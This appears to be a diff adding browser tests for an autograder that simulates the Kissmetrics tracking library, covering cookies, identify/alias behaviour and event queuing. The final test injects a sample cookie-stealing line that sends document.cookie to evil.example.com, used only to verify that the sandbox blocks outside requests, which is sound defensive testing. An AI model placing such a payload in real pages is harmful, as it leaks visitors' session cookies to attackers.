@@ -1,0 +1,235 @@
+"""The simulated Kissmetrics library in a real Chromium against the real tracker."""
+
+import asyncio
+import re
+
+import pytest
+
+from autograder.checks.scenario import is_anonymous_id
+
+pytestmark = pytest.mark.browser
+
+IDENTIFY_WHEN_KNOWN = "if (window.acme.customer) { _kmq.push(['identify', window.acme.customer.email]); }"
+
+
+def aliases(site, run):
+    return [(r["person"], r["name"]) for r in site.requests(run) if r["kind"] == "a"]
+
+
+def test_anonymous_id_format_and_persistence_across_pages_and_a_restart(browse):
+    async def walk(visitor, run):
+        v = await visitor()
+        first = await v.visit("shop", "/")
+        second = await v.visit("blog", "/why-email")
+        await v.reopen()
+        third = await v.visit("shop", "/pricing")
+        raw = {c["name"]: c for c in await v.context.cookies([v.site.shop_url])}
+        return first, second, third, raw
+
+    first, second, third, raw = browse.run(walk)
+    assert is_anonymous_id(first.km_ai) and len(first.km_ai) == 28
+    assert first.km_ni is None and first.ki == first.km_ai
+    assert second.km_ai == third.km_ai == first.km_ai
+    assert raw["km_ai"]["domain"] == ".acme.test"
+    assert "%3D" in raw["km_ai"]["value"] or "%2B" in raw["km_ai"]["value"] or "%2F" in raw["km_ai"]["value"]
+    # The library asks for 5 years (Chromium caps any cookie at 400 days); the session cookie lives 30 minutes.
+    now = __import__("time").time()
+    assert raw["km_ai"]["expires"] - now > 399 * 24 * 3600
+    assert 29 * 60 < raw["km_vs"]["expires"] - now <= 30 * 60 + 5
+
+
+def test_identify_sends_an_alias_and_sets_cookies_url_encoded(browse):
+    async def walk(visitor, run):
+        v = await visitor()
+        anonymous = await v.visit("shop", "/")
+        await v.page.evaluate("() => _kmq.push(['identify', 'ann@example.com'])")
+        step = await v.settle("identify", expect_path=None)
+        raw = {c["name"]: c["value"] for c in await v.context.cookies([v.site.shop_url])}
+        return anonymous, step, raw
+
+    anonymous, step, raw = browse.run(walk)
+    assert step.km_ai == step.km_ni == step.ki == "ann@example.com"
+    assert raw["km_ai"] == "ann%40example.com"
+    assert aliases(browse.site, None)[-1] == (anonymous.km_ai, "ann@example.com")
+
+
+def test_identify_while_named_replaces_the_name_without_alias(browse):
+    async def walk(visitor, run):
+        v = await visitor()
+        await v.visit("shop", "/")
+        await v.page.evaluate("() => _kmq.push(['identify', 'first@example.com'])")
+        await v.settle("first", expect_path=None)
+        await v.page.evaluate("() => _kmq.push(['identify', 'second@example.com'])")
+        return await v.settle("second", expect_path=None)
+
+    step = browse.run(walk)
+    assert step.km_ai == "second@example.com"
+    names = [b for _, b in aliases(browse.site, None)]
+    assert "first@example.com" in names and "second@example.com" not in names
+
+
+@pytest.mark.parametrize("call", ["['clearIdentity']", "['identify', '']", "['identify', null]",
+                                  "['identify', 'null']", "['identify']"])
+def test_clear_identity_forgets_the_name_and_a_new_anonymous_id_follows(browse, call):
+    async def walk(visitor, run):
+        v = await visitor()
+        await v.visit("shop", "/")
+        await v.page.evaluate("() => _kmq.push(['identify', 'gone@example.com'])")
+        await v.settle("identify", expect_path=None)
+        await v.page.evaluate(f"() => _kmq.push({call})")
+        cleared = await v.cookies()
+        after = await v.visit("shop", "/pricing")
+        return cleared, after
+
+    cleared, after = browse.run(walk)
+    assert "km_ai" not in cleared and "km_ni" not in cleared
+    assert is_anonymous_id(after.km_ai) and after.km_ni is None
+
+
+def test_clear_identity_does_nothing_while_anonymous(browse):
+    async def walk(visitor, run):
+        v = await visitor()
+        before = await v.visit("shop", "/")
+        await v.page.evaluate("() => _kmq.push(['clearIdentity'])")
+        return before, await v.visit("shop", "/pricing")
+
+    before, after = browse.run(walk)
+    assert before.km_ai == after.km_ai
+
+
+def test_blog_host_sees_the_shop_cookies(browse):
+    async def walk(visitor, run):
+        v = await visitor()
+        await v.sign_up(__import__("autograder.checks.visitor", fromlist=["Customer"]).Customer(
+            "Bea Blog", "bea@example.com", "password1"))
+        return await v.visit("blog", "/")
+
+    step = browse.run(walk, snippet=IDENTIFY_WHEN_KNOWN)
+    assert step.url.startswith("blog.acme.test")
+    assert step.km_ai == step.ki == "bea@example.com"
+
+
+def test_unsent_requests_are_kept_in_km_uq_and_resent_on_the_next_page(browse):
+    async def walk(visitor, run):
+        v = await visitor()
+        held = []
+
+        async def hold(route):  # the page is left before the tracker answers
+            held.append(route.request.url)
+
+        await v.context.route(re.compile(r"/e\?"), hold)
+        await v.page.goto(v.url("shop", "/pricing"))
+        await v.page.wait_for_function("() => /km_uq=/.test(document.cookie)")
+        queued = (await v.cookies())["km_uq"]
+        await v.context.unroute(re.compile(r"/e\?"))
+        await v.page.goto("about:blank")
+        await v.visit("shop", "/")
+        return held, queued, (await v.cookies()).get("km_uq")
+
+    held, queued, after = browse.run(walk)
+    assert held, "the beacon should have been held"
+    assert re.match(r"^\d+ /e\?_k=", queued.split("|")[0])
+    names = [r["name"] for r in browse.site.requests(None)]
+    assert "Visited Site" in names and "Viewed pricing page" in names
+    assert after is None
+
+
+def test_track_submit_identifies_an_anonymous_visitor_by_the_email_field(browse):
+    snippet = "_kmq.push(['trackSubmit', 'form', 'Submitted form']);"
+
+    async def walk(visitor, run):
+        v = await visitor()
+        await v.visit("shop", "/")
+        from autograder.checks.visitor import Customer
+
+        return await v.sign_up(Customer("Tia Track", "Tia@Example.com", "password1"))
+
+    step = browse.run(walk, snippet=snippet)
+    assert step.km_ai == "Tia@Example.com"
+    run_requests = browse.site.requests(None)
+    submitted = [r for r in run_requests if r["name"] == "Submitted form"]
+    assert submitted and submitted[-1]["props"]["email"] == "Tia@Example.com"
+    assert "password" not in submitted[-1]["props"]
+
+
+def test_events_after_alias_belong_to_the_person(browse):
+    async def walk(visitor, run):
+        v = await visitor()
+        anonymous = await v.visit("shop", "/")
+        await v.page.evaluate("() => _kmq.push(['identify', 'eve@example.com'])")
+        await v.settle("identify", expect_path=None)
+        await v.visit("shop", "/pricing")
+        return anonymous.km_ai, browse.site.people(run)
+
+    anonymous_id, people = browse.run(walk)
+    person = next(p for p in people if "eve@example.com" in p.ids)
+    assert anonymous_id in person.ids
+    assert {e["name"] for e in person.events} >= {"Visited Site", "Viewed home page", "Viewed pricing page"}
+
+
+def test_queue_runs_functions_ignores_unknown_commands_and_is_replaced(browse):
+    snippet = ("window.order = []; _kmq.push(function () { window.order.push(typeof KM.i()); });"
+               "_kmq.push(['noSuchCommand', 1]);")
+
+    async def walk(visitor, run):
+        v = await visitor()
+        await v.visit("shop", "/")
+        return await v.page.evaluate("() => [window.order, Array.isArray(_kmq), typeof _kmq.push]")
+
+    order, still_array, push = browse.run(walk, snippet=snippet)
+    assert order == ["string"] and still_array is False and push == "function"
+
+
+def test_library_loads_after_inline_scripts(browse):
+    """Calling KM directly from the snippet fails: the library is not there yet."""
+    async def walk(visitor, run):
+        v = await visitor()
+        await v.visit("shop", "/")
+        return v.page_errors
+
+    errors = browse.run(walk, snippet="KM.identify('too-early@example.com');")
+    assert errors and "KM is not defined" in errors[0]["message"]
+
+
+def test_visited_site_once_per_session(browse):
+    async def walk(visitor, run):
+        v = await visitor()
+        for path in ("/", "/pricing", "/"):
+            await v.visit("shop", path)
+        return [r["name"] for r in browse.site.requests(run)]
+
+    names = browse.run(walk)
+    assert names.count("Visited Site") == 1
+
+
+def test_snippet_errors_leave_pages_working(browse):
+    async def walk(visitor, run):
+        v = await visitor()
+        step = await v.visit("shop", "/pricing")
+        return step, v.page_errors, await v.page.title()
+
+    step, errors, title = browse.run(walk, snippet="this is not javascript(")
+    assert "Pricing" in title and is_anonymous_id(step.km_ai)
+    assert errors and "SyntaxError" in errors[0]["message"] or "Unexpected" in errors[0]["message"]
+
+
+def test_no_request_leaves_for_any_other_host(browse):
+    snippet = """
+      new Image().src = 'http://evil.example.com/steal?c=' + document.cookie;
+      fetch('http://127.0.0.1:9/').catch(function () {});
+      fetch('http://www.acme.test:9/x').catch(function () {});
+    """
+
+    async def walk(visitor, run):
+        v = await visitor()
+        seen = []
+        v.context.on("requestfinished", lambda request: seen.append(request.url))
+        await v.visit("shop", "/")
+        await v.visit("blog", "/")
+        await asyncio.sleep(0.2)
+        return seen
+
+    seen = browse.run(walk, snippet=snippet)
+    port = browse.site.port
+    hosts = {re.match(r"https?://([^/]+)/", url).group(1) for url in seen}
+    assert hosts <= {f"www.acme.test:{port}", f"blog.acme.test:{port}", f"trk.kmtrack.test:{port}"}, hosts
